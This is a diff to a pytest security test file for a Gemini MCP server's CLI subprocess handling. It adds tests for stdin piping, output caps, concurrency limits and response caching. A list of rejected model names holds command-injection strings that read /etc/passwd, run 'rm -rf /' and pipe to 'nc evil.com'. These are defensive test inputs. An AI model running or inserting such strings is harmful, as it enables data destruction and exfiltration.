@@ -7,6 +7,7 @@ Tests the security of subprocess execution and error handling
 import asyncio
 import os
 import sys
+from collections import OrderedDict
 from typing import Any, List
 from unittest.mock import AsyncMock, MagicMock, patch
 
@@ -17,6 +18,7 @@ sys.path.insert(
     0, os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
 )
 
+import gemini_mcp_server
 from gemini_mcp_server import execute_gemini_cli_streaming
 
 
@@ -77,6 +79,8 @@ class TestCLIFallbackSecurity:
             "; cat /etc/passwd #",
             "model && rm -rf /",
             "model | nc evil.com 443",
+            "gemini-2.5-flash\u00e9",  # non-ASCII alphanumerics
+            "g" * 65,  # overly long
         ]
 
         for dangerous_model in dangerous_models:
@@ -114,6 +118,59 @@ class TestCLIFallbackSecurity:
                 assert "HOME" not in env
                 assert "USER" not in env
 
+    @pytest.mark.asyncio
+    async def test_large_prompt_sent_via_stdin(self) -> None:
+        """Test that prompts too large for argv are piped to stdin"""
+
+        mock_process = MagicMock()
+        mock_process.returncode = 0
+        mock_process.pid = 12345
+        mock_process.stdin.drain = AsyncMock()
+        mock_process.stdout.readline = AsyncMock(return_value=b"")
+        mock_process.communicate = AsyncMock(return_value=(b"output", b""))
+
+        large_prompt = "x" * (gemini_mcp_server.MAX_ARGV_PROMPT_BYTES + 1)
+
+        with patch(
+            "asyncio.create_subprocess_exec", return_value=mock_process
+        ) as mock_exec:
+            with patch("gemini_mcp_server.GOOGLE_API_KEY", None):
+                result = await execute_gemini_cli_streaming(
+                    large_prompt, "gemini_quick_query"
+                )
+
+        assert result["success"] is True
+        # The prompt must not appear on the command line
+        assert mock_exec.call_args[0] == ("gemini", "-m", "gemini-2.5-flash")
+        assert mock_exec.call_args[1]["stdin"] == asyncio.subprocess.PIPE
+        written = b"".join(
+            call.args[0] for call in mock_process.stdin.write.call_args_list
+        )
+        assert written == large_prompt.encode("utf-8")
+        mock_process.stdin.close.assert_called_once()
+
+    @pytest.mark.asyncio
+    async def test_failed_stdin_write_stops_process(self) -> None:
+        """Test that a broken stdin pipe still terminates the CLI process"""
+
+        mock_process = MagicMock()
+        mock_process.returncode = None
+        mock_process.pid = 12345
+        mock_process.stdin.drain = AsyncMock(side_effect=BrokenPipeError())
+        mock_process.wait = AsyncMock(return_value=-15)
+
+        large_prompt = "x" * (gemini_mcp_server.MAX_ARGV_PROMPT_BYTES + 1)
+
+        with patch("asyncio.create_subprocess_exec", return_value=mock_process):
+            with patch("gemini_mcp_server.GOOGLE_API_KEY", None):
+                result = await execute_gemini_cli_streaming(
+                    large_prompt, "gemini_quick_query"
+                )
+
+        assert result["success"] is False
+        mock_process.terminate.assert_called_once()
+        mock_process.wait.assert_awaited()
+
 
 class TestCLIProcessManagement:
     """Test CLI process lifecycle and management"""
@@ -122,20 +179,21 @@ class TestCLIProcessManagement:
     async def test_process_timeout_handling(self) -> Any:
         """Test that long-running processes are handled correctly"""
 
-        # Mock a process that times out a few times then completes
+        # Mock a process that is slow to produce output then completes
         mock_process = MagicMock()
         mock_process.pid = 12345
 
-        # Create a sequence: timeout a few times, then process completes
-        timeout_count = 0
+        # Create a sequence: a few slow lines, then process completes
+        line_count = 0
 
         async def mock_readline() -> bytes:
-            nonlocal timeout_count
-            if timeout_count < 3:
-                timeout_count += 1
-                raise asyncio.TimeoutError()
+            nonlocal line_count
+            if line_count < 3:
+                line_count += 1
+                await asyncio.sleep(0.01)
+                return b"slow line\n"
             else:
-                # Process completes after timeouts
+                # Process completes after the slow output
                 mock_process.returncode = 0
                 return b""  # EOF
 
@@ -152,9 +210,10 @@ class TestCLIProcessManagement:
                     "test", "gemini_quick_query"
                 )
 
-                # Should complete even with timeouts
+                # Should complete and keep the slow output
                 assert result is not None
                 assert result["success"] is True
+                assert result["output"].startswith("slow line\n" * 3)
 
     @pytest.mark.asyncio
     async def test_process_memory_constraints(self) -> None:
@@ -180,6 +239,51 @@ class TestCLIProcessManagement:
                 # Verify we captured the large output
                 assert len(result["output"]) > 100000  # Should be > 100KB
 
+    @pytest.mark.asyncio
+    async def test_output_size_cap(self) -> None:
+        """Test that runaway output stops the process instead of growing forever"""
+
+        mock_process = MagicMock()
+        mock_process.returncode = None
+        mock_process.pid = 12345
+        mock_process.stdout.readline = AsyncMock(return_value=b"A" * 1000 + b"\n")
+        mock_process.wait = AsyncMock(return_value=-15)
+        mock_process.communicate = AsyncMock(return_value=(b"", b""))
+
+        with patch("asyncio.create_subprocess_exec", return_value=mock_process):
+            with patch("gemini_mcp_server.GOOGLE_API_KEY", None):
+                with patch("gemini_mcp_server.MAX_OUTPUT_BYTES", 10000):
+                    result = await execute_gemini_cli_streaming(
+                        "test", "gemini_quick_query"
+                    )
+
+        assert result["success"] is False
+        assert "exceeded 10000 bytes" in result["error"]
+        mock_process.terminate.assert_called_once()
+
+    @pytest.mark.asyncio
+    async def test_overlong_line_stops_process(self) -> None:
+        """Test that a read error still terminates and reaps the CLI process"""
+
+        mock_process = MagicMock()
+        mock_process.returncode = None
+        mock_process.pid = 12345
+        mock_process.stdout.readline = AsyncMock(
+            side_effect=ValueError("Separator is not found, and chunk exceed the limit")
+        )
+        mock_process.wait = AsyncMock(return_value=-15)
+
+        with patch("asyncio.create_subprocess_exec", return_value=mock_process):
+            with patch("gemini_mcp_server.GOOGLE_API_KEY", None):
+                result = await execute_gemini_cli_streaming(
+                    "test", "gemini_quick_query"
+                )
+
+        assert result["success"] is False
+        mock_process.terminate.assert_called_once()
+        mock_process.wait.assert_awaited()
+        mock_process.communicate.assert_not_called()
+
     @pytest.mark.asyncio
     async def test_stderr_error_capture(self) -> None:
         """Test that stderr errors are properly captured and sanitized"""
@@ -237,6 +341,35 @@ class TestCLIProcessManagement:
                     assert result["success"] is True
                     assert f"Output {i}" in result["output"]
 
+    @pytest.mark.asyncio
+    async def test_concurrency_limit(self) -> None:
+        """Test that no more than the configured number of calls run at once"""
+
+        running = 0
+        peak = 0
+
+        async def fake_execute(prompt: str, model_name: str) -> dict:
+            nonlocal running, peak
+            running += 1
+            peak = max(peak, running)
+            await asyncio.sleep(0.01)
+            running -= 1
+            return {"success": True, "output": prompt}
+
+        with patch.object(gemini_mcp_server, "_call_slots", asyncio.Semaphore(2)):
+            with patch("gemini_mcp_server._execute_uncached", fake_execute):
+                results = await asyncio.gather(
+                    *(
+                        execute_gemini_cli_streaming(f"test {i}", "gemini_quick_query")
+                        for i in range(5)
+                    )
+                )
+
+        assert peak == 2
+        assert [result["output"] for result in results] == [
+            f"test {i}" for i in range(5)
+        ]
+
 
 class TestCLIInputValidation:
     """Test CLI input validation and sanitization"""
@@ -322,6 +455,112 @@ class TestCLIErrorRecovery:
                 assert "Command not found" in result["error"]
 
 
+class TestResponseCache:
+    """Test the in-memory response cache in front of the CLI"""
+
+    @staticmethod
+    def _make_process(output: bytes, returncode: int = 0) -> MagicMock:
+        mock_process = MagicMock()
+        mock_process.returncode = returncode
+        mock_process.pid = 12345
+        mock_process.stdout.readline = AsyncMock(return_value=b"")
+        if returncode == 0:
+            mock_process.communicate = AsyncMock(return_value=(output, b""))
+        else:
+            mock_process.communicate = AsyncMock(return_value=(b"", output))
+        return mock_process
+
+    @pytest.mark.asyncio
+    async def test_cache_disabled_by_default(self) -> None:
+        """Test that identical prompts reach the CLI when caching is off"""
+
+        processes = [self._make_process(b"first"), self._make_process(b"second")]
+
+        with patch(
+            "asyncio.create_subprocess_exec", side_effect=processes
+        ) as mock_exec:
+            with patch("gemini_mcp_server.GOOGLE_API_KEY", None):
+                with patch("gemini_mcp_server.RESPONSE_CACHE_SIZE", 0):
+                    first = await execute_gemini_cli_streaming(
+                        "cache test", "gemini_quick_query"
+                    )
+                    second = await execute_gemini_cli_streaming(
+                        "cache test", "gemini_quick_query"
+                    )
+
+                assert mock_exec.call_count == 2
+                assert first["output"] == "first"
+                assert second["output"] == "second"
+
+    @pytest.mark.asyncio
+    async def test_repeated_prompt_served_from_cache(self) -> None:
+        """Test that a repeated prompt skips the CLI when caching is on"""
+
+        with patch.object(gemini_mcp_server, "_response_cache", OrderedDict()):
+            with patch(
+                "asyncio.create_subprocess_exec",
+                return_value=self._make_process(b"cached answer"),
+            ) as mock_exec:
+                with patch("gemini_mcp_server.GOOGLE_API_KEY", None):
+                    with patch("gemini_mcp_server.RESPONSE_CACHE_SIZE", 4):
+                        first = await execute_gemini_cli_streaming(
+                            "cache test", "gemini_quick_query"
+                        )
+                        second = await execute_gemini_cli_streaming(
+                            "cache test", "gemini_quick_query"
+                        )
+
+                    assert mock_exec.call_count == 1
+                    assert first["output"] == second["output"] == "cached answer"
+                    assert "cached" not in first
+                    assert second["cached"] is True
+
+    @pytest.mark.asyncio
+    async def test_failures_are_not_cached(self) -> None:
+        """Test that failed CLI runs are retried rather than cached"""
+
+        processes = [
+            self._make_process(b"CLI error", returncode=1),
+            self._make_process(b"recovered"),
+        ]
+
+        with patch.object(gemini_mcp_server, "_response_cache", OrderedDict()):
+            with patch(
+                "asyncio.create_subprocess_exec", side_effect=processes
+            ) as mock_exec:
+                with patch("gemini_mcp_server.GOOGLE_API_KEY", None):
+                    with patch("gemini_mcp_server.RESPONSE_CACHE_SIZE", 4):
+                        first = await execute_gemini_cli_streaming(
+                            "cache test", "gemini_quick_query"
+                        )
+                        second = await execute_gemini_cli_streaming(
+                            "cache test", "gemini_quick_query"
+                        )
+
+                    assert mock_exec.call_count == 2
+                    assert first["success"] is False
+                    assert second["output"] == "recovered"
+
+    @pytest.mark.asyncio
+    async def test_least_recently_used_entry_evicted(self) -> None:
+        """Test that the cache stays within its configured size"""
+
+        processes = [self._make_process(f"answer {i}".encode()) for i in range(3)]
+
+        with patch.object(gemini_mcp_server, "_response_cache", OrderedDict()):
+            with patch("asyncio.create_subprocess_exec", side_effect=processes):
+                with patch("gemini_mcp_server.GOOGLE_API_KEY", None):
+                    with patch("gemini_mcp_server.RESPONSE_CACHE_SIZE", 2):
+                        for i in range(3):
+                            await execute_gemini_cli_streaming(
+                                f"prompt {i}", "gemini_quick_query"
+                            )
+
+                        cache = gemini_mcp_server._response_cache
+                        assert len(cache) == 2
+                        assert list(cache.values()) == ["answer 1", "answer 2"]
+
+
 if __name__ == "__main__":
     # Run integration tests
     import subprocess